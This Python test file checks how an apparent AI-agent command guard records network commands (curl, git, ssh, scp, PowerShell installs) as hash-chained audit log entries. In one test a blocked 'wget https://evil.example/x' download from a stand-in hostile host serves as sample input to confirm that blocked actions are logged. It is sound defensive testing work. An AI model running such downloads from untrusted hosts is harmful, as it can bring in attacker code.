"""NetOps records: the StateTrace template's field names and values."""

from __future__ import annotations

import json

import pytest
from audit_helpers import make_facts

from statetrace_guard.audit.netops import extract_arguments, host_of, netops_record
from statetrace_guard.audit.record import DEFAULT_REGISTRY, NetOpsRecord
from statetrace_guard.audit.trail import Trail
from statetrace_guard.audit.verify import verify_file

TEMPLATE_KEYS = {
    "Timestamp",
    "SessionId",
    "TaskBoardIds",
    "PlanReferences",
    "Action",
    "Program",
    "Arguments",
    "Environment",
    "Result",
}


@pytest.mark.parametrize(
    ("argv", "urls", "expected"),
    [
        (
            ["curl", "-o", "a.zip", "https://dl.example.com/a.zip"],
            ["https://dl.example.com/a.zip"],
            {
                "Hosts": ["dl.example.com"],
                "Uri": "https://dl.example.com/a.zip",
                "OutPath": "a.zip",
            },
        ),
        (
            ["git", "push", "origin", "main"],
            ["github.com"],
            {"Hosts": ["github.com"], "Remotes": ["origin"]},
        ),
        (
            ["git", "remote", "add", "up", "https://x.org/r.git"],
            ["https://x.org/r.git"],
            {"Hosts": ["x.org"], "Uri": "https://x.org/r.git", "Remotes": ["up"]},
        ),
        (
            ["ssh", "deploy@build01", "uptime"],
            [],
            {"Hosts": ["build01"], "Targets": ["deploy@build01"]},
        ),
        (
            ["scp", "f.txt", "host2:/tmp/"],
            [],
            {"Hosts": ["host2"], "Targets": ["host2:/tmp/"]},
        ),
        (
            ["pwsh", "-Command", "Install-Module", "-Source", "PSGallery"],
            [],
            {"Hosts": [], "Sources": ["PSGallery"]},
        ),
        (
            [
                "Invoke-AllowedDownload",
                "-Uri",
                "https://h/x.zip",
                "-OutPath",
                "x.zip",
                "-ExpectedHash",
                "ab12",
            ],
            ["https://h/x.zip"],
            {
                "Hosts": ["h"],
                "Uri": "https://h/x.zip",
                "OutPath": "x.zip",
                "HashSha256": "ab12",
                "Sources": ["https://h/x.zip"],
            },
        ),
    ],
)
def test_extract_arguments(argv, urls, expected):
    """Arguments carry only what applies, with hosts always present."""
    assert extract_arguments(argv, urls, [], blocked=False) == expected


def test_blocked_reason_and_extra_hash():
    """A blocked command's reasons become Reason; extra supplies a hash."""
    args = extract_arguments(
        ["curl", "https://x"],
        ["https://x"],
        ["L1 forbids network"],
        blocked=True,
        extra={"hash_sha256": "ff"},
    )
    assert args["Reason"] == "L1 forbids network"
    assert args["HashSha256"] == "ff"


def test_host_of_redacted_url():
    """A redacted user-info still yields the host."""
    assert host_of("https://u:[REDACTED:12345678]@Db.Example:5432/x") == "db.example"
    assert host_of("example.org/path") == "example.org"


class TestRecords:
    def test_finished_and_blocked_lines(self, log_dir):
        """Network commands give NetOps lines in the template's names, chained."""
        trail = Trail(log_dir, "s9")
        facts = make_facts(
            ("curl", "-O", "https://dl.example.com/tool.zip"),
            session_id="s9",
            network=True,
            effects=("network",),
            urls=("https://dl.example.com/tool.zip",),
            task_ids=("ST-7", "ST-8"),
            plan_refs=("Plan-F",),
            env={
                "STATETRACE_AGENT_ALLOW_NET": "1",
                "STATETRACE_AGENT_ALLOW_INSTALL": None,
            },
        )
        trail.started(facts, {})
        trail.finished(
            facts, {"exit_code": 0, "duration_ms": 1234.6, "timed_out": False}
        )
        trail.blocked(
            make_facts(
                ("wget", "https://evil.example/x"),
                session_id="s9",
                network=True,
                decision="block",
                reasons=("network needs L3",),
                urls=("https://evil.example/x",),
            )
        )
        [path] = list((log_dir / "NetOps").glob("*.json"))
        assert verify_file(path).ok
        lines = [json.loads(line) for line in path.read_text().splitlines()][1:]
        assert all(set(line) >= TEMPLATE_KEYS for line in lines)
        run, blocked = lines
        assert run["Action"] == "download"
        assert run["TaskBoardIds"] == ["ST-7", "ST-8"]
        assert run["PlanReferences"] == ["Plan-F"]
        assert run["Environment"] == {
            "STATETRACE_AGENT_ALLOW_NET": "1",
            "STATETRACE_AGENT_ALLOW_INSTALL": None,
        }
        assert run["Result"] == {
            "Status": "succeeded",
            "DurationMs": 1235,
            "ExitCode": 0,
        }
        assert blocked["Action"] == "blocked"
        assert blocked["TaskBoardIds"] == ["ST-1"]
        assert blocked["Arguments"]["Reason"] == "network needs L3"
        assert blocked["Result"]["Status"] == "blocked"
        for line in lines:
            assert isinstance(DEFAULT_REGISTRY.parse(line), NetOpsRecord)

    def test_no_netops_without_network(self, log_dir):
        """Commands without the network effect get no NetOps line."""
        trail = Trail(log_dir, "s1")
        trail.blocked(make_facts(decision="block"))
        assert not (log_dir / "NetOps").exists()

    @pytest.mark.parametrize(
        ("outcome", "status"),
        [
            ({"exit_code": 2, "duration_ms": 1}, "failed"),
            ({"exit_code": None, "duration_ms": 1, "timed_out": True}, "timeout"),
        ],
    )
    def test_status(self, outcome, status):
        """Failures and timeouts are told apart."""
        session = {"argv": ["git", "fetch"], "decision": "allow", "session_id": "s"}
        assert netops_record(session, outcome)["Result"]["Status"] == status


def test_arguments_inside_scripts():
    """Options inside ``bash -c`` scripts are found per simple command."""
    argv = ["bash", "-c", "git push origin main && curl -o out.zip https://h.example/x"]
    args = extract_arguments(argv, ["https://h.example/x"], [], blocked=False)
    assert args["Remotes"] == ["origin"]
    assert args["OutPath"] == "out.zip"
    assert args["Hosts"] == ["h.example"]


def test_simple_commands_tolerates_bad_quotes():
    """An unbalanced script still splits on whitespace."""
    from statetrace_guard.audit.netops import simple_commands  # noqa: PLC0415

    assert simple_commands(["sh", "-c", "ssh 'a b"])[1] == ["ssh", "'a", "b"]


def test_program_from_extra():
    """The runtime may name the network program inside a shell."""
    session = {
        "argv": ["bash", "-c", "curl https://x"],
        "decision": "allow",
        "session_id": "s",
        "extra": {"program": "curl"},
    }
    assert netops_record(session, {"exit_code": 0})["Program"] == "curl"
